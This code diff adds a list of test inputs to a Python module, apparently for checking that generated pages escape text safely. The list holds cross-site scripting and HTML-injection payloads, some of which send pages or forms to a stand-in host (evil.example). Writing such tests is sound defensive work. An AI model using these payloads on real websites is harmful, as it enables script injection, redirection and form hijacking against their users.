@@ -14,6 +14,29 @@ import numpy as np
 from absl import app, flags
 
 WORDS = 8000
+# What a page that is careless with texts would run, build or be broken by.
+ATTACKS = (
+  "<script>window.attacked=1</script>",
+  "</script><script>window.attacked=1</script>",
+  "</script ><img src=x onerror=window.attacked=1>",
+  "<!--<script>window.attacked=1",
+  "--><svg/onload=window.attacked=1>",
+  "]]><script>window.attacked=1</script>",
+  '"><iframe srcdoc="<script>parent.attacked=1</script>">',
+  "<math><mtext></table><img src=x onerror=window.attacked=1>",
+  "'-window.attacked=1-'",
+  "${window.attacked=1}",
+  "{{constructor.constructor('window.attacked=1')()}}",
+  "javascript:window.attacked=1//",
+  "&lt;script&gt;window.attacked=1&lt;/script&gt;",
+  "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>",
+  "<base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example/>",
+  "<form action=//evil.example><button id=title>go</button></form>",
+  "\u2028\u2029 a line that is none",
+  "\u202e turned around \u2066 hidden \u200b",
+  "\x00\x1b[31m\x7f\x9b control",
+  "\U0001f600 e\u0301 \U0001f468\u200d\U0001f469",
+)
 START = 1_700_000_000.0  # seconds since 1970
 
 
